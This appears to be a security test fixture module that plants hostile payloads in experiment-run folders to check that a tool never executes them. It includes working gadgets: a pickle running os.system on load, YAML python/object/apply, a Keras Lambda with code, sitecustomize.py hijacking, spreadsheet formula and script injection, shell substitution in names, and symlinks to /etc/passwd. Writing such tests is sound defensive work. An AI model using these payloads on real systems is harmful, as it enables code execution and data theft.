"""Attacks that a stranger may hide in a run folder; each leaves a mark file if its code runs.

A gadget is called with the folder of a valid run and a shell command that writes the mark.
"""

from __future__ import annotations

import json
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import nbformat
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
from nbformat import v4
from sample_runs import write_job

Gadget = Callable[[Path, str], object]


class Bomb:
    """Run a shell command when this object is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (self.command,)


def said(file: str, field: str, words: str) -> Gadget:
    """Return a gadget that writes a text into a record; {} in the text stands for the command."""

    def plant(run: Path, command: str) -> None:
        record = json.loads((run / file).read_text())
        record[field] = words.replace("{}", command)
        (run / file).write_text(json.dumps(record))

    return plant


def named(words: str) -> Gadget:
    """Return a gadget that renames the run's folder to this name."""
    return lambda run, command: run.rename(run.with_name(words.replace("{}", Path(command).name)))


def placed(name: str, words: str) -> Gadget:
    """Return a gadget that writes a file with this text beside the run's records."""
    return lambda run, command: (run / name).write_text(words.replace("{}", command))


def instead(name: str, make: Callable[[Path, str], object]) -> Gadget:
    """Return a gadget that replaces one of the run's files."""

    def plant(run: Path, command: str) -> None:
        (run / name).unlink(missing_ok=True)
        make(run / name, command)

    return plant


def shown(**data: Any) -> Gadget:
    """Return a gadget that adds a display output to the executed notebook of one shared job."""

    def plant(run: Path, command: str) -> None:
        filled = json.loads(json.dumps(data).replace("{}", command.replace("/", "\\/")))
        bundle = {kind.replace("_", "/", 1): value for kind, value in filled.items()}
        jobs = run.parent.parent / "shown"
        job = next(jobs.glob("*/*"), None) or write_job(jobs)
        notebook = nbformat.read(job / "output.ipynb", 4)
        notebook.cells[1].outputs.append(v4.new_output("display_data", bundle))
        nbformat.write(notebook, job / "output.ipynb")
        run.rename(job / f"{run.name}-{len(notebook.cells[1].outputs)}")

    return plant


def job_with(name: str, words: str) -> Gadget:
    """Return a gadget that moves the run into a job whose file of this name has this text."""

    def plant(run: Path, command: str) -> None:
        job = write_job(run.parent / "jobs")
        (job / name).write_text(words.replace("{}", command))
        run.rename(job / run.name)

    return plant


def bad_extension(path: Path, command: str) -> None:
    """Write a table whose column has an extension type that a reader would have to unpickle."""
    told = {"ARROW:extension:name": "arrow.py_extension_type"}
    told |= {"ARROW:extension:metadata": pickle.dumps(Bomb(command)).decode("latin1")}
    field = pa.field("step", pa.int64(), metadata=told)
    pq.write_table(pa.table([[1, 2]], schema=pa.schema([field])), path)


def bad_notes(path: Path, command: str) -> None:
    """Write a table whose pandas metadata describes an index that a reader would rebuild."""
    notes = {
        "index_columns": [{"kind": "range", "name": command, "start": 0, "stop": 2, "step": 0}]
    }
    table = pa.table({"step": [1, 2]}).replace_schema_metadata({"pandas": json.dumps(notes)})
    pq.write_table(table, path)


def lambda_model(path: Path, command: str) -> None:
    """Write a Keras file with a Lambda layer that holds code."""
    layer = {
        "class_name": "Lambda",
        "config": {"function": f"__import__('os').system('{command}')"},
    }
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("config.json", json.dumps({"class_name": "Sequential", "config": layer}))
        file.writestr("../../escaped.txt", "out")


def swept(**fields: Any) -> Gadget:
    """Return a gadget that writes the record of a sweep beside the run."""

    def plant(run: Path, command: str) -> None:
        state = {"schema": 1, "state": "completed", "members": [], "notebook": command}
        (run.parent / "sweep.json").write_text(json.dumps(state | fields))

    return plant


PYTHON = "import os\nos.system('{}')\n"
SYSTEM = "__import__('os').system('{}')"
GADGETS: dict[str, Gadget] = {
    "script in a name": said("experiment.json", "name", "<script>fetch('{}')</script>"),
    "handler in a name": said("experiment.json", "name", "\"><img src=x onerror='{}'>"),
    "template in a model": said("experiment.json", "model", "{{ cycler.__init__.__globals__ }}"),
    "loop in a template": said(
        "experiment.json", "model", "{% for x in range(9**9) %}{% endfor %}"
    ),
    "address in a data set": said("experiment.json", "dataset", "javascript:alert(1)"),
    "formula with =": said("experiment.json", "optimizer", "=cmd|'{}'!A0"),
    "formula with +": said("experiment.json", "optimizer", "+cmd|'{}'!A0"),
    "formula with -": said("experiment.json", "optimizer", "-cmd|'{}'!A0"),
    "formula with @": said("experiment.json", "optimizer", "@SUM(cmd|'{}'!A0)"),
    "formula behind a tab": said("experiment.json", "optimizer", "\t=cmd|'{}'!A0"),
    "formula behind a return": said("experiment.json", "optimizer", "\r=cmd|'{}'!A0"),
    "title of the terminal": said("status.json", "cause", "\x1b]0;{}\x07"),
    "clipboard of the terminal": said("status.json", "cause", "\x1b]52;c;e30=\x07"),
    "text that turns around": said("status.json", "cause", "\u202e{}"),
    "C1 control": said("status.json", "cause", "\x9b31m{}"),
    "shell in a cause": said("status.json", "cause", "$({})"),
    "shell in a notebook's path": job_with("status.json", '{"schema": 1, "notebook": "`{}`"}'),
    "a list for a verdict": said("metrics.json", "equivalence", "{}"),
    "shell in a folder's name": named("$(touch {})"),
    "an option as a folder's name": named("--help"),
    "an escape in a folder's name": named("a\x1b[2Jb\nlabkit: done"),
    "HTML in a folder's name": named("<img src=x onerror=alert(1)>"),
    "YAML that calls": job_with("params.yaml", "a: !!python/object/apply:os.system ['{}']\n"),
    "YAML that grows": job_with("params.yaml", "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n"),
    "YAML of a module": job_with("params.yaml", "!!python/module:this {}\n"),
    "sweep out of its folder": swept(members=[{"folder": "../../..", "values": {}}]),
    "pickled column": instead("history.parquet", bad_extension),
    "notes for pandas": instead("history.parquet", bad_notes),
    "torn history": placed("history.parquet", "PAR1 {}"),
    "damaged history": placed("history.parquet", "PAR1 {} PAR1"),
    "pipe as history": instead("history.parquet", lambda path, _: os.mkfifo(path)),
    "pipe as status": instead("status.json", lambda path, _: os.mkfifo(path)),
    "endless record": instead("experiment.json", lambda path, _: path.symlink_to("/dev/zero")),
    "history elsewhere": instead("history.parquet", lambda path, _: path.symlink_to("/etc/passwd")),
    "folder elsewhere": instead("more", lambda path, _: path.symlink_to("/")),
    "folder in itself": instead("again", lambda path, _: path.symlink_to(path.parent)),
    "Keras file with a lambda": instead("model.keras", lambda_model),
    "pickle": instead("data.pkl", lambda p, c: p.write_bytes(pickle.dumps(Bomb(c)))),
    "pickled array": instead(
        "w.npy", lambda p, c: np.save(p, np.array([Bomb(c)]), allow_pickle=True)
    ),
    "module beside the runs": placed("../json.py", PYTHON),
    "package beside the runs": placed("../labkit.py", PYTHON),
    "start of Python beside the runs": placed("../sitecustomize.py", PYTHON),
    "HTML that runs": shown(text_html=["<script>{}</script><iframe src=x>"]),
    "JavaScript that is shown": shown(application_javascript="fetch('{}')"),
    "drawing with a script": shown(
        **{"image_svg+xml": "<svg onload='{}'><script>{}</script></svg>"}
    ),
    "widget that is restored": shown(
        **{"application_vnd.jupyter.widget-view+json": {"model_id": "x"}}
    ),
    "link that runs": shown(text_markdown="[x](javascript:{}) ![x](file:///etc/passwd)"),
    "annotation that runs": job_with("output.ipynb", '{"cells": [{"metadata": 5}], "nbformat": 4}'),
    "deep record": instead("metrics.json", lambda p, _: p.write_text('{"a":' + "[" * 10**5)),
    "record of another kind": instead("metrics.json", lambda path, _: path.write_text("[1]")),
}
